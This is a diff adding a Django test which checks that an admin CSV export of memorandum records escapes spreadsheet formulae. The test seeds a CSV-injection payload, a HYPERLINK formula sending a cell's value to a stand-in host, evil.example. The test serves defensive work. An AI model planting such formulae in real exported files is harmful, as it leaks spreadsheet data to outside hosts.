@@ -1,6 +1,8 @@
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -235,3 +237,14 @@ def test_mark_expired_action_and_history(client, programme_admin):
     assert update["who"] == programme_admin
     assert {row["model"] for row in rows} >= {"บันทึกความเข้าใจ", "คู่ภาคี", "ผู้ลงนามหรือพยาน"}
     assert "นายทดสอบ 0" in history.content.decode()
+
+
+def test_export_csv_escapes_formulae(client, programme_admin):
+    mou = signed_mou(title_th='=HYPERLINK("http://evil.example/"&A1)', title_en="-2+3")
+    client.force_login(programme_admin)
+    response = client.post(
+        reverse("admin:mou_mou_changelist"),
+        {"action": "export_csv", "_selected_action": [mou.pk]},
+    )
+    row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1]
+    assert row[1:3] == ['\'=HYPERLINK("http://evil.example/"&A1)', "'-2+3"]
